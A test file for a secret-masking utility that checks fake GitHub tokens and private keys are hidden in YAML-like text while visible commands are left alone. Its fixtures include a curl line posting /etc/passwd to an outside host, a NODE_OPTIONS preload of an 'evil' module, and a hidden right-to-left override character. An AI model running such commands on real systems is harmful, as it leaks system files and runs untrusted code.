import { describe, expect, it } from 'vitest'
import { createTextMasks, withoutMasks } from './mask-text.ts'

const token = `ghp_${'a1B2'.repeat(9)}`
const other = `ghp_${'c3D4'.repeat(9)}`

describe('P9: a text with secrets in it', () => {
  it.each([
    ['as a value', `key: ${token}`],
    ['in quotes', `key: "${token}"`],
    ['in a flow', `{ key: ${token}, other: 1 }`],
    ['in a comment', `# was ${token}`],
    ['in a command', `command: [sh, -c, "TOKEN=${token} run"]`],
    ['in a text that is not YAML', `: [ ${token}`],
    ['after Bearer', `authorization: Bearer ${token}`],
    ['by its name', 'api_token: q7Rz81LmXc02'],
    ['by its name, in JSON', '{"client-secret": "q7Rz81LmXc02"}'],
  ])('%s is masked', (_, text) => {
    const shown = createTextMasks()(text)
    expect(shown).toContain('⟨masked: ')
    expect(shown).not.toContain(token)
    expect(shown).not.toContain('q7Rz81LmXc02')
  })

  it('keeps its lines, also where a private key is masked', () => {
    const key = ['-----BEGIN PRIVATE KEY-----', 'MIIEvQ', 'abcd==', '-----END PRIVATE KEY-----'].join(
      '\n    ',
    )
    const text = `a: |\n    ${key}\nb: 1\n`
    const shown = createTextMasks()(text)
    expect(shown).not.toContain('MIIEvQ')
    expect(shown.split('\n')).toHaveLength(text.split('\n').length)
    expect(shown.split('\n').indexOf('b: 1')).toBe(text.split('\n').indexOf('b: 1'))
  })

  it.each([
    ['a path', 'NODE_OPTIONS: --require /tmp/evil-module-0A.js'],
    ['a host', 'api_token: evil.example.com/a'],
    ['a command', 'command: [curl, -d, "@/etc/passwd", https://x.example]'],
    ['a digest of nobody', 'branch: ghp-looks-like-a-name'],
  ])('hides nothing that does something: %s', (_, text) => {
    expect(createTextMasks()(text)).toBe(text)
  })

  it('shows that a secret was swapped for another of its kind', () => {
    const mask = createTextMasks()
    const [before, same, swapped] = [`key: ${token}`, `key: ${token}`, `key: ${other}`].map(mask)
    expect(same).toBe(before)
    expect(swapped).not.toBe(before)
    expect(swapped).not.toContain(other)
  })

  it('writes out what can’t be seen, and leaves plain YAML as it is', () => {
    const mask = createTextMasks()
    expect(mask('deny: ["rm\u202e"]')).toBe('deny: ["rm⟨U+202E RLO⟩"]')
    expect(mask('a: ⟨masked: GitHub token, 40 characters⟩')).not.toContain('⟨masked')
    const plain = `a: 1${'\n'.repeat(30)}\tb: "中文" # ok\n`
    expect(mask(plain)).toBe(plain)
    expect(mask('a: 1\r\nb: 2\r\n')).toBe('a: 1\nb: 2\n')
  })

  it('takes no long time over a text that is made for it', () => {
    for (const text of [
      'a'.repeat(300_000),
      'a='.repeat(150_000),
      `${'-----BEGIN PRIVATE KEY-----\n'.repeat(9000)}`,
    ]) {
      expect(createTextMasks()(text).length).toBeGreaterThan(0)
    }
  })
})

describe('a mask that comes back', () => {
  it('is a plain word of the same length, and never the secret', () => {
    const shown = createTextMasks()(`key: ${token}\nnext: 1`)
    const back = withoutMasks(shown)
    expect(back).toMatch(/^key: maskedx+\nnext: 1$/)
    expect(back).toHaveLength(shown.length)
  })
})
